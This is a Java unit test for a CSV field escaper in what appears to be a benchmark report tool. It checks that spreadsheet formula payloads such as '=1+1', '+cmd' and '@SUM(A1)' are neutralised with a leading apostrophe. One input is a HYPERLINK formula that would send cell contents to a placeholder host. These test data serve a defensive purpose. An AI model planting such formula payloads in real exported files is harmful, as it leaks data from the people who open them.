package dev.jdbcbench.report.layout;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class CsvTest {
    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+cmd", "-cmd", "@SUM(A1)", "-1+cmd", "＝1+1", "＋1", "－1", "＠x"})
    void textThatASpreadsheetWouldCalculateIsText(String text) {
        assertThat(Csv.field(text)).isEqualTo("'" + text);
    }

    @Test
    void quotedTextIsNotCalculatedEither() {
        assertThat(Csv.field("=HYPERLINK(\"http://x/?\"&A1,\"y\")"))
                .isEqualTo("\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"y\"\")\"");
        assertThat(Csv.field("\t=1")).isEqualTo("'\t=1");
        assertThat(Csv.field("\r=1")).isEqualTo("\"'\r=1\"");
        assertThat(Csv.field("\n=1")).isEqualTo("\"'\n=1\"");
    }

    @ParameterizedTest
    @ValueSource(strings = {"-1", "-1.5", "+0.25", "-1e-7", "Select1Row(count=1)", "a-b", "–", "'x", ""})
    void numbersAndOtherTextAreUnchanged(String text) {
        assertThat(Csv.field(text)).isEqualTo(text);
    }

    @Test
    void valuesThatAreNoTextAreUnchanged() {
        assertThat(Csv.field(-1.5)).isEqualTo("-1.5");
        assertThat(Csv.field(-1)).isEqualTo("-1");
        assertThat(Csv.field(3.0)).isEqualTo("3");
        assertThat(Csv.field(120_000.0)).isEqualTo("120000");
        assertThat(Csv.field(0.0)).isEqualTo("0");
        assertThat(Csv.field(Double.NaN)).isEmpty();
        assertThat(Csv.field(null)).isEmpty();
        assertThat(Csv.field(Instant.EPOCH)).isEqualTo("1970-01-01T00:00:00Z");
    }
}
